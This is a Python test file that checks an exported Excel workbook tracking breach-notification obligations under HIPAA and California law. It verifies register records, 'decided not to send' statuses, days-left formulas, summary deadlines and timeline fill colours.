def test_a_register_case_says_what_was_recorded_and_graded(hims_book):
    result, book = hims_book
    rows = _rows_by_key(book, len(result.obligations))
    record = "Register record (at export)"
    assert [c.value for c in book["Obligations"][1]][-1] == record
    assert rows["CA/individuals"][record] == (
        "sent 2026-04-02 by mail (USPS 9400): late, 26 days (reason: scope being determined)"
    )
    assert rows["HIPAA/individuals"][record] == "sent 2026-04-02 by mail: on time"
    assert rows["HIPAA/media/CA"][record].startswith("decided not to send: ")
    assert rows["HIPAA/media/CA"]["Sent on"] is None  # a decision is no date
    assert rows["CA/attorney_general"][record] is None


def test_a_decision_not_to_send_reads_decided_not_overdue(hims_book):
    from tests.excel_formula import evaluate, serial
    from tests.recorded import AS_OF

    result, book = hims_book
    ws = book["Obligations"]
    rows = _rows_by_key(book, len(result.obligations))
    heads = {c.value: c.column_letter for c in ws[1]}

    def shown(key: str, column: str = "Urgency (live)") -> object:
        r = rows[key]["_row"]
        cells = {
            f"{c.column_letter}{r}": serial(c.value.date()) if isinstance(c.value, datetime) else c.value
            for c in ws[r]
        }
        return evaluate(ws[f"{heads[column]}{r}"].value, cells, AS_OF)

    assert shown("HIPAA/media/CA") == "decided not to send"
    assert shown("HIPAA/media/NY") == "overdue"
    assert shown("CA/individuals") == "sent late"
    assert shown("HIPAA/hhs") == "sent"
    # A notice done counts down no more ("-44" beside "sent late" read as 44 days overdue).
    assert shown("CA/individuals", "Days left") == ""
    assert shown("HIPAA/media/CA", "Days left") == ""
    assert shown("HIPAA/media/NY", "Days left") == -14


def test_a_register_case_summary_names_the_earliest_deadline_still_open(hims_book):
    _, book = hims_book
    ws = book["Summary"]
    labels = {ws.cell(r, 1).value: r for r in range(1, ws.max_row + 1)}
    legal = labels["Earliest fixed deadline"]
    assert ws.cell(legal, 2).value == datetime(2026, 3, 7)
    assert "recorded sent 2026-04-02 by mail" in ws.cell(legal, 4).value
    still = labels["Earliest deadline still open"]
    assert ws.cell(still, 2).value == datetime(2026, 3, 22)
    assert ws.cell(still, 4).value.startswith("California: Attorney General")
    decided = labels["decided not to send (live)"]
    assert ws.cell(decided, 2).value.startswith("=COUNTIF(")
    assert "Decided not to send" in labels


def test_a_plain_file_has_no_register_column(sample_book: Workbook):
    assert "Register record (at export)" not in [c.value for c in sample_book["Obligations"][1]]
    labels = {c.value for c in sample_book["Summary"]["A"]}
    assert "Earliest deadline still open" not in labels and "Decided not to send" not in labels


def test_a_register_case_timeline_marks_the_notices_done(hims_book):
    _, book = hims_book
    ws = book["Timeline"]
    labels = {ws.cell(r, 2).value: r for r in range(4, ws.max_row + 1)}
    assert "Sent: Affected individuals" in labels and "Not sending: Prominent media (CA)" in labels
    assert "Prominent media (NY)" in labels  # still owed: as before
    assert "recorded in the register as done" in ws["A1"].value
    done, owed = labels["Not sending: Prominent media (CA)"], labels["Prominent media (NY)"]
    assert ws.cell(done, 4).fill.fgColor.rgb.endswith("BFBFBF")
    assert ws.cell(owed, 4).fill.fgColor.rgb.endswith("8EA9DB")
